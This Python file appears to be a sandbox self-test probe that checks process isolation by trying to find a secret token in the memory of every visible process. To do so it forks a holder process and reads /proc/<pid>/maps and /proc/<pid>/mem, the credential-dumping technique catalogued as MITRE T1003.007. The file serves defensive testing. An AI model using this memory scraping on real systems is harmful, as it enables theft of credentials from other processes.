"""The credential in a memory."""

import os
import re
import signal
from collections.abc import Iterator
from functools import partial
from typing import Any

from bottle.selftest.kit import Attempt, attack
from bottle.selftest.probes.search import LARGEST, processes_seen, unmasked


@attack(
    aim="memory",
    source="MITRE ATT&CK T1003.007, the proc file system",
    expects="it is in none",
    control="own_memory",
    spared={"gvisor": "its /proc gives no process the memory of another"},
)
def attempts(aim: list[str]) -> Iterator[Attempt]:
    """Reads the memory of every process that can be seen."""
    yield "memories", partial(_memories_with, aim[0], held="with a holder" in aim)


def _memories_with(masked: str, *, held: bool) -> list[str]:
    """`held`: a process of this attempt's own has the value in its memory."""
    token = unmasked(masked)
    holder = os.fork() if held else None
    while holder == 0 and token:
        signal.pause()
    try:
        return [name for name in processes_seen() if _in_memory(name, token)]
    finally:
        if holder:
            os.kill(holder, signal.SIGKILL)


def _in_memory(process: str, token: bytes) -> bool:
    try:
        with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb", 0) as memory:
            for line in maps:
                found = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
                if found and _in_area(memory, int(found[1], 16), int(found[2], 16), token):
                    return True
    except OSError:
        return False
    return False


def _in_area(memory: Any, start: int, end: int, token: bytes) -> bool:
    for at in range(start, end, LARGEST):
        try:
            memory.seek(at)
            if token in memory.read(min(LARGEST, end - at)):
                return True
        except (OSError, OverflowError, ValueError):
            return False
    return False
